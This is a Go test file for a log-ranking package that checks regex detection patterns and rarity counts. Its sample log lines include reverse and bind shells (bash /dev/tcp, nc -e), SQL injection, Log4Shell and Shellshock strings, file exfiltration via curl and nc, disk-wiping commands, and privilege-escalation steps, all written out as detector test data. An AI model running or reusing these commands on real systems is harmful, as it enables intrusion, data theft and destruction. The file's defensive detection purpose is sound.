package ranklogs

import (
	"math/rand/v2"
	"regexp"
	"strings"
	"testing"
)

// TestNeededWords holds the index of words to the patterns: whatever a pattern
// matches has one of its words.
func TestNeededWords(t *testing.T) {
	lines := []string{
		`sudo: kim : PWD=/tmp ; USER=root ; COMMAND=/usr/bin/nc -l -p 4444 -e /bin/sh`, `bash -i >& /dev/tcp/198.51.100.4/443 0>&1`,
		`GET /a?id=1' OR 1=1 HTTP/1.1`, `GET /a?id=1';DROP TABLE users HTTP/1.1`, `id=1 UNION SELECT a FROM b`, `waitfor delay '0:0:5'`,
		`GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1`, `() { :;}; /bin/bash -c id`, `O:8:"Exploit":1:{s:1:"a";}`, `{{7*7}}`, `GET /a;id HTTP/1.1`,
		`nmap -sS 10.0.0.0/8`, `nc -zv host 22`, `python3 -m http.server 8000`, `curl -F file=@/etc/passwd https://example.org`, `tar cz /home | nc 198.51.100.4 99`,
		`rm -rf / --no-preserve-root`, `dd if=/dev/zero of=/dev/sda`, `curl http://198.51.100.7/x`, `pip install --index-url http://example.org/x y`,
		`export of table customers to https://example.org`, `GET /../../etc/passwd HTTP/1.1" 200`, `GET /.env HTTP/1.1`, `POST /uploads/a.php?c=id HTTP/1.1`,
		`4d5a90000300000004000000ffff0000b8aa.example.org`, `find / -perm -4000`, `chmod u+s /bin/bash`, `useradd -o -u 0 toor`, `cat /etc/shadow`,
	}
	c := compileCatalogue()
	hit := 0
	for i := range c.all {
		words := neededWords[c.all[i].text]
		if words == nil {
			words = needed(c.all[i].pattern)
		}
		for _, w := range words {
			if len(w) < 3 {
				t.Errorf("%q: the word %q is too short to be looked up", c.all[i].text, w)
			}
		}
		re, unless := regexp.MustCompile(c.all[i].pattern), c.all[i].unless
		for _, l := range lines {
			lower := strings.ToLower(l)
			for from := range lower { // tails begin in the middle of words
				tail := lower[from:]
				match := re.MatchString(tail)
				if got, want := c.all[i].match(tail), match && (unless == nil || !unless.MatchString(tail)); got != want {
					t.Errorf("%q: its alternatives give %t for %q, the whole %t", c.all[i].text, got, tail, want)
				}
				if match && words != nil && !containsAny(tail, words) {
					t.Errorf("%q matches %q, which has none of %q", c.all[i].text, tail, words)
				}
			}
			if re.MatchString(lower) {
				hit++
			}
		}
	}
	if hit < len(lines)/2 {
		t.Errorf("%d matches over %d lines: the lines test nothing", hit, len(lines))
	}
}

func containsAny(s string, words []string) bool {
	for _, w := range words {
		if strings.Contains(s, w) {
			return true
		}
	}
	return false
}

// TestNeeded tries needed on patterns whose words are plain.
func TestNeeded(t *testing.T) {
	for pattern, want := range map[string]string{
		`abc|defg`: "abc defg", `x(?:one|two)y`: "xoney xtwoy", `a.b`: "", `(?:ab)?cde`: "abcde cde", `(?:q|rs)tu`: "qtu rstu", `w+longer`: "longer", `.*ab`: "",
	} {
		if got := strings.Join(needed(pattern), " "); got != want {
			t.Errorf("needed(%q) = %q, want %q", pattern, got, want)
		}
	}
}

// TestCountsInAnyOrder: what is rare does not depend on the order of lines, but
// for what follows what.
func TestCountsInAnyOrder(t *testing.T) {
	views := []*view{}
	v := &viewer{}
	for i := range 40 {
		views = append(views, v.view("job run by anna took "+strings.Repeat("9", 1+i%5)+" ms on "+[]string{"a", "b", "c"}[i%3]))
	}
	excess := func(order []int) (out []float64) {
		c := newCounts()
		for _, i := range order {
			c.add(views[i])
		}
		for _, vw := range views {
			for _, s := range vw.slots {
				bits, _, _ := c.excess(placeOf(vw, s), s.value)
				out = append(out, bits, c.long(placeOf(vw, s), s.value))
			}
		}
		return out
	}
	order := make([]int, len(views))
	for i := range order {
		order[i] = i
	}
	want := excess(order)
	r := rand.New(rand.NewPCG(1, 2))
	for range 5 {
		r.Shuffle(len(order), func(i, j int) { order[i], order[j] = order[j], order[i] })
		got := excess(order)
		for i := range want {
			if got[i] != want[i] {
				t.Fatalf("value %d: %v in one order, %v in another", i, got[i], want[i])
			}
		}
	}
}
